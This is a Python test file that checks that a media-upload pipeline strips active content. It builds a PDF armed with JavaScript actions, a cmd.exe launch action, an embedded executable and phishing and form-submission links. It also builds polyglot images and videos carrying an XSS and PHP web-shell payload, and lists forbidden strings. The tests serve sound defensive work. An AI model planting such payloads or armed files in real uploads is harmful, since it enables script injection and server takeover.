"""What one store uploads and others open does nothing but show itself."""

import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from shared.media.models import MediaStatus
from shared.media.storage import find_link
from tests.functions.on_media_uploaded import files
from tests.functions.on_media_uploaded.conftest import opened, renditions_of, uploaded
from tests.media import media_now

SCRIPT = b"<script>alert(document.domain)</script><?php system($_GET[0]); ?>"


def armed_paper() -> bytes:
    """A PDF with everything that a reader could be made to do."""

    def script(words):
        return Dictionary(S=Name.JavaScript, JS=String(words))

    with pikepdf.open(io.BytesIO(files.paper(pages=2))) as pdf:
        pdf.attachments["invoice.exe"] = b"MZ executable"
        pdf.Root.OpenAction = script("app.alert('opened')")
        pdf.Root.AA = Dictionary(WC=script("app.alert('closed')"))
        pdf.Root.Names.JavaScript = Dictionary(Names=Array([String("init"), script("app.alert('named')")]))
        pdf.Root.AcroForm = Dictionary(
            Fields=Array([Dictionary(FT=Name.Tx, T=String("name"), AA=Dictionary(K=script("app.alert('typed')")))]),
            XFA=pdf.make_stream(b"<xdp><script>app.alert('xfa')</script></xdp>"),
        )
        page = pdf.pages[0].obj
        page.AA = Dictionary(O=script("app.alert('turned')"))
        page.Annots = Array(
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
            for action in (
                script("app.alert('clicked')"),
                Dictionary(S=Name.Launch, F=String("cmd.exe")),
                Dictionary(S=Name.URI, URI=String("https://phishing.example/")),
                Dictionary(S=Name.SubmitForm, F=String("https://collect.example/")),
                Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=script("app.alert('next')")),
            )
        )
        file = io.BytesIO()
        pdf.save(file, compress_streams=False)
        return file.getvalue()


def laid_open(content: bytes) -> bytes:
    """A PDF with nothing compressed, so that every word in it is seen."""
    with pikepdf.open(io.BytesIO(content)) as pdf:
        file = io.BytesIO()
        pdf.save(file, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.generalized)
        return file.getvalue()


def test_a_document_keeps_its_pages_and_loses_what_acts(process):
    content = armed_paper()
    assert all(word in laid_open(content) for word in (b"app.alert", b"cmd.exe", b"MZ executable", b"xdp"))
    media = uploaded(content, "application/pdf", "coa")

    process(media)

    (rendition,) = renditions_of(media).values()
    seen = laid_open(rendition)
    forbidden = (b"app.alert", b"JavaScript", b"cmd.exe", b"phishing", b"collect.example", b"MZ executable", b"xdp")
    assert [word for word in forbidden if word in seen] == []
    with pikepdf.open(io.BytesIO(rendition)) as pdf:
        assert (len(pdf.pages), len(pdf.attachments), len(pdf.pages[0].Annots)) == (2, 0, 5)
        assert pdf.pages[0].Contents.read_bytes().count(b"THCA 24.1") == 500
        # A jump to another page is harmless, and stays.
        assert str(pdf.pages[0].Annots[4].A.S) == "/GoTo"


@pytest.mark.parametrize("kind", ["license_doc", "coa", "manifest", "pdf", "other"])
def test_who_reads_a_ready_document_reads_the_harmless_one(process, kind):
    import httpx

    content = armed_paper()
    media = uploaded(content, "application/pdf", kind, file_name="lab report.pdf")
    before = httpx.get(find_link(media_now(media)).url).content

    process(media)

    after = httpx.get(find_link(media_now(media)).url)
    assert before == content
    assert after.content == renditions_of(media)[f"private:{media.generation}/document.pdf"]
    assert after.headers["Content-Type"] == "application/pdf"
    assert after.headers["Content-Disposition"] == "inline; filename*=UTF-8''lab%20report.pdf"


def gif_that_is_a_script() -> bytes:
    """Valid as a picture, and as a script that begins with the variable `GIF89a`."""
    return files.moving_gif(1) + b"/*" + SCRIPT + b"*/=1;"


@pytest.mark.parametrize(
    ("make", "mime_type"),
    [
        (lambda: files.encoded(files.picture(), "PNG") + SCRIPT, "image/png"),
        (lambda: files.photo() + b"PK\x03\x04" + SCRIPT, "image/jpeg"),
        (lambda: files.encoded(files.picture(), "JPEG", comment=SCRIPT), "image/jpeg"),
        (gif_that_is_a_script, "image/gif"),
        (lambda: files.encoded(files.picture(), "WEBP", xmp=SCRIPT), "image/webp"),
        (lambda: files.film() + SCRIPT, "video/mp4"),
    ],
)
def test_a_file_of_two_natures_keeps_only_the_one_that_is_shown(process, make, mime_type):
    content = make()
    assert SCRIPT in content
    media = uploaded(content, mime_type)

    process(media)

    made = renditions_of(media)
    assert media_now(media).status is MediaStatus.READY, media_now(media).failure_reason
    assert all(b"script" not in each and b"<?php" not in each for each in made.values())


def test_profile_and_xmp_of_a_picture_are_left_behind(process):
    from PIL import ImageCms

    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    told = b"<x:xmpmeta><dc:creator>Rosa Diaz</dc:creator></x:xmpmeta>"
    media = uploaded(files.encoded(Image.new("RGB", (64, 48)), "PNG", icc_profile=profile), "image/png")
    other = uploaded(files.encoded(Image.new("RGB", (64, 48)), "WEBP", icc_profile=profile, xmp=told), "image/webp")

    process(media)
    process(other)

    for content in [*renditions_of(media).values(), *renditions_of(other).values()]:
        assert b"Rosa Diaz" not in content
        assert {"exif", "xmp", "icc_profile"} & set(opened(content).info) == set()
